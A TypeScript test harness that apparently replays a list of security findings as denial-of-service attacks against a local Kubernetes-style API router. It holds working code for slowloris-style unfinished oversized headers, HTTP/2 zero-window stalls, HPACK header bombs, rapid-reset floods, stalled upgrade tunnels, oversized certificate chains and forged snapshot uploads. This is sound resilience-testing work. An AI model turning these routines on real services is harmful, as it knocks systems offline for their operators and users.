/** `router-attacks.ts PORT NAME SECONDS DIRECTORY`: one attack on a whole router, from a process of its own. */
import { readFileSync } from 'node:fs';
import { connect as connectHttp2, constants } from 'node:http2';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { type ConnectionOptions, connect, type TLSSocket } from 'node:tls';

export interface RouterAttack {
  /** That of the list of findings that it began with. */
  readonly name: string;
  readonly title: string;
  readonly run: (target: Target) => Promise<void>;
}

interface Target {
  readonly port: number;
  readonly directory: string;
  readonly isOver: () => boolean;
}

const token = 'Authorization: Bearer token\r\n';
const pod = '/api/v1/namespaces/default/pods/a';
const upgrade = 'Connection: Upgrade\r\nUpgrade: websocket\r\n';

/** @returns `undefined` where the router does not take it */
function open({ port }: Target, options: ConnectionOptions = {}): Promise<TLSSocket | undefined> {
  const { promise, resolve } = Promise.withResolvers<TLSSocket | undefined>();
  const given = { ALPNProtocols: ['http/1.1'], ...options };
  const socket = connect({ port, host: '127.0.0.1', rejectUnauthorized: false, ...given });
  const late = setTimeout(() => socket.destroy(), 15_000);
  socket.on('error', () => socket.destroy());
  socket.once('secureConnect', () => {
    clearTimeout(late);
    resolve(socket);
  });
  socket.once('close', () => resolve(undefined));
  return promise;
}

/** So many connections, sixteen at a time; each is opened anew when it ends. */
async function connections(
  target: Target,
  count: number,
  each: (socket: TLSSocket) => void,
  options?: ConnectionOptions,
): Promise<void> {
  let left = count;
  const opening = async (): Promise<void> => {
    while (left > 0 && !target.isOver()) {
      left -= 1;
      const socket = await open(target, options);
      socket?.once('close', () => {
        left += 1;
      });
      if (socket === undefined) left += 1;
      else each(socket);
      await sleep(10);
    }
  };
  while (!target.isOver()) {
    await Promise.all(Array.from({ length: 16 }, opening));
    await sleep(200);
  }
}

function head(target: string, bytes: number, lines = ''): string {
  const filling = Array.from({ length: Math.ceil(bytes / 4_000) }, (_, index) =>
    `X-${index}: `.padEnd(Math.min(3_990, bytes), 'y'),
  );
  return `GET ${target} HTTP/1.1\r\nHost: a\r\n${lines}${filling.map((line) => `${line}\r\n`).join('')}\r\n`;
}

/** As much as is taken. */
function pour(socket: TLSSocket): void {
  const piece = Buffer.alloc(16 * 1024);
  const more = (): void => {
    while (socket.writable && socket.write(piece)) {}
  };
  socket.on('drain', more);
  more();
}

async function streams(
  { port, isOver }: Target,
  sessions: number,
  path: string,
  headers: Readonly<Record<string, string | string[]>> = {},
  settings: { readonly initialWindowSize?: number } = {},
): Promise<void> {
  for (let count = 0; count < sessions && !isOver(); count++) {
    const options = { rejectUnauthorized: false, settings, maxSendHeaderBlockLength: 4 * 1024 * 1024 };
    const session = connectHttp2(`https://127.0.0.1:${port}`, options).on('error', () => {});
    for (let stream = 0; stream < 100; stream++) {
      session.request({ ':path': path, ...headers }).on('error', () => {});
    }
    await sleep(20);
  }
  while (!isOver()) await sleep(200);
}

async function push({ port, isOver, directory }: Target): Promise<void> {
  const jws = readFileSync(join(directory, 'forged.jws'));
  const one = async (): Promise<void> => {
    while (!isOver()) {
      const { promise, resolve } = Promise.withResolvers<void>();
      const session = connectHttp2(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
      session.on('error', () => {}).on('close', resolve);
      const stream = session.request({ ':method': 'PUT', ':path': '/.mixed-version-proxy/v1/snapshot' });
      // The last bytes do not come for a while.
      stream.on('error', () => {}).on('close', () => session.destroy());
      stream.write(jws);
      stream.resume();
      const timer = setTimeout(() => session.destroy(), 10_000);
      await promise;
      clearTimeout(timer);
      await sleep(50);
    }
  };
  await Promise.all(Array.from({ length: 40 }, one));
}

async function resets({ port, isOver }: Target): Promise<void> {
  const { NGHTTP2_CANCEL } = constants;
  while (!isOver()) {
    const session = connectHttp2(`https://127.0.0.1:${port}`, { rejectUnauthorized: false });
    session.on('error', () => {});
    for (let stream = 0; stream < 300 && !session.destroyed; stream++) {
      session
        .request({ ':path': '/version' })
        .on('error', () => {})
        .close(NGHTTP2_CANCEL);
      if (stream % 50 === 0) await sleep(5);
    }
    await sleep(50);
    session.destroy();
  }
}

const idle = (socket: TLSSocket): void => void socket.resume();

export const routerAttacks: readonly RouterAttack[] = [
  {
    name: 'N1',
    title: 'heads of 60 KB of requests without a response',
    run: (target) =>
      connections(target, 900, (socket) => {
        idle(socket);
        socket.write(head(`${pod}/proxy/silent`, 60_000, token));
      }),
  },
  {
    name: 'N2',
    title: 'answers that are not taken, window 0',
    run: async (target) => {
      const [closed, denied] = [{ initialWindowSize: 0 }, '/api/v1/pods?watch=1&deny=1'];
      await Promise.all([
        streams(target, 41, '/version', {}, closed),
        streams(target, 40, denied, {}, closed),
      ]);
    },
  },
  {
    name: 'N3',
    title: 'idle connections',
    run: (target) =>
      connections(target, 1_500, (socket) => {
        idle(socket);
        socket.write('GET /livez HTTP/1.1\r\nHost: a\r\n\r\n');
      }),
  },
  {
    name: 'N4',
    title: 'heads of 1 MB in 300 bytes of HPACK',
    run: (target) => streams(target, 8, '/version', { 'x-bomb': Array(250).fill('y'.repeat(3_900)) }),
  },
  {
    name: 'N8',
    title: 'tunnels that stand still',
    run: (target) =>
      connections(target, 700, (socket) => {
        socket.pause();
        socket.write(`GET ${pod}/portforward HTTP/1.1\r\nHost: a\r\n${token}${upgrade}\r\n`);
        setTimeout(pour, 200, socket);
      }),
  },
  {
    name: 'N8 readers',
    title: 'lists of 10 MB that nobody reads',
    run: (target) =>
      connections(target, 700, (socket) => {
        socket.pause();
        socket.write(`GET /api/v1/pods?big=1 HTTP/1.1\r\nHost: a\r\n${token}\r\n`);
      }),
  },
  {
    name: 'N9',
    title: 'heads of 60 KB and 900 KB of upgrades without a response',
    run: (target) =>
      connections(target, 600, (socket) => {
        idle(socket);
        const bytes = Math.random() < 0.5 ? 60_000 : 900_000;
        socket.write(head(`${pod}/exec?silent=1`, bytes, token + upgrade));
      }),
  },
  {
    name: 'N10',
    title: 'certificate chains of 80 KB',
    run: (target) => {
      const [cert, key] = ['chain.pem', 'chain.key'].map((file) =>
        readFileSync(join(target.directory, file)),
      );
      return connections(
        target,
        900,
        (socket) => {
          idle(socket);
          socket.write('GET /livez HTTP/1.1\r\nHost: a\r\n\r\n');
        },
        { cert, key },
      );
    },
  },
  { name: 'N11', title: 'rapid resets', run: resets },
  {
    name: '1',
    title: 'unfinished heads behind lines a:b',
    run: (target) =>
      connections(target, 200, (socket) => {
        idle(socket);
        const request = `GET /livez HTTP/1.1\r\nHost: a\r\n${'a:b\r\n'.repeat(3_900)}\r\n`;
        socket.write(request.repeat(20) + head('/livez', 900_000).slice(0, -4));
      }),
  },
  {
    name: '4',
    title: 'discovery by 100 clients at once',
    run: (target) =>
      connections(target, 100, (socket) => {
        idle(socket);
        const accept = 'Accept: application/json;g=apidiscovery.k8s.io;v=v2;as=APIGroupDiscoveryList\r\n';
        socket.write(`GET /apis HTTP/1.1\r\nHost: a\r\n${token}${accept}\r\n`);
      }),
  },
  { name: '5', title: 'forged snapshots of 11 MB', run: push },
];

if (import.meta.main) {
  const [port = '', name = '', seconds = '', directory = ''] = process.argv.slice(2);
  const until = performance.now() + 1_000 * Number(seconds);
  const attack = routerAttacks.find((each) => each.name === name);
  await attack?.run({ port: Number(port), directory, isOver: () => performance.now() > until });
  process.exit();
}
